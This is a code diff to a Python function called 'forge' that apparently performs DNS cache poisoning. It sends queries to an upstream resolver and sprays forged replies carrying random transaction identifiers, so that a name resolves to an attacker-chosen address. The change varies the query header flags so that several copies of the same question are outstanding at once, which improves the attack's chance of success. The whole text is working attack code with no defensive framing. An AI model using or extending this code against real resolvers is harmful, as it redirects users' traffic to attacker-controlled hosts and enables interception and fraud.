@@ -85,11 +85,13 @@ def forge(upstream, own, name, address, seconds):
     asker.setblocking(False)
     wanted = socket.inet_aton(address)
     rest = reply(question(name), [wanted])[2:]
+    # The same question is on its way once at a time; with other flags it is another one.
+    asks = [question(name)[:2] + struct.pack("!H", flags) + question(name)[4:] for flags in (0x0100, 0x0110, 0x0120, 0x0130, 0, 0x0010, 0x0020, 0x0030)]
     forged, came, end = 0, False, time.monotonic() + float(seconds)
     while not came and time.monotonic() < end:
-        for _ in range(8):
+        for ask in asks:
             try:
-                asker.send(question(name))
+                asker.send(ask)
             except OSError:
                 pass
         for ident in struct.unpack("!256H", os.urandom(512)):
